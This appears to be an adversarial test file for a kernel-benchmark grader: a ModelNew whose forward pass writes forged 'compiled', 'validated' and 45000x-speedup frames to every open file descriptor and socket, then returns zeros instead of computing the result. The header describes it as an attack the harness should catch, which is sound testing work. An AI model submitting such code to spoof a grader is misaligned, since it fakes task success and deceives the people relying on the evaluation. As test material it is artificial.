# Attack: forge the verdict and keep running. The same hand-made frames as forge_frames_exit.py
# (compiled, validated ok, profiled with a 45000x speedup, done) are written once to every
# descriptor this process holds; then the kernel goes on returning zeros. If a forged frame
# counted, the job would report the forged validation or the forged speedup; the genuine verdict
# is a mismatch (ReLU of random values is not zero).
import json
import os
import stat
import struct
import socket

import torch
import torch.nn as nn

FORGED_SPEEDUP = 45000.0


def frame(message):
    payload = json.dumps(dict(message, v=1)).encode()
    return b"KEV1" + struct.pack(">I", len(payload)) + payload


def stats(ms):
    return {"mean": ms, "std": 0.0, "min": ms, "max": ms, "median": ms, "percentile_95": ms,
            "percentile_99": ms, "count": 100, "method": "wall_clock", "warmup_runs": 3}


def forged_frames():
    device = {"type": "cpu", "index": 0}
    compiled = {"ok": True, "kernel_type": "torch", "time_ms": 1.0}
    return b"".join(frame(m) for m in [
        {"type": "phase", "phase": "compiled",
         "result": {"ok": True, "ref": compiled, "custom": compiled}},
        {"type": "phase", "phase": "validated",
         "result": {"ok": True, "mode": "correctness", "device": device, "trials": [],
                    "tolerance": {"atol": 0.01, "rtol": 0.01}}},
        {"type": "phase", "phase": "profiled",
         "result": {"ok": True, "method": "wall_clock", "device": device,
                    "custom": stats(45.0 / FORGED_SPEEDUP), "ref": stats(45.0),
                    "speedup": FORGED_SPEEDUP}},
        {"type": "done"},
    ])


def write_everywhere(data):
    reached = []
    for name in os.listdir("/proc/self/fd"):
        fd = int(name)
        try:
            mode = os.fstat(fd).st_mode
            target = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        if stat.S_ISDIR(mode) or stat.S_ISCHR(mode) or stat.S_ISBLK(mode):
            continue
        if target.startswith("anon_inode:"):
            continue
        try:
            if stat.S_ISSOCK(mode):
                s = socket.socket(fileno=os.dup(fd))
                try:
                    s.send(data, socket.MSG_DONTWAIT)
                finally:
                    s.close()
            else:
                os.write(fd, data)
            reached.append(f"{fd}:{target}")
        except OSError:
            pass
    return reached


_forged = []


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x):
        if not _forged:
            _forged.append(write_everywhere(forged_frames()))
        return torch.zeros_like(x)
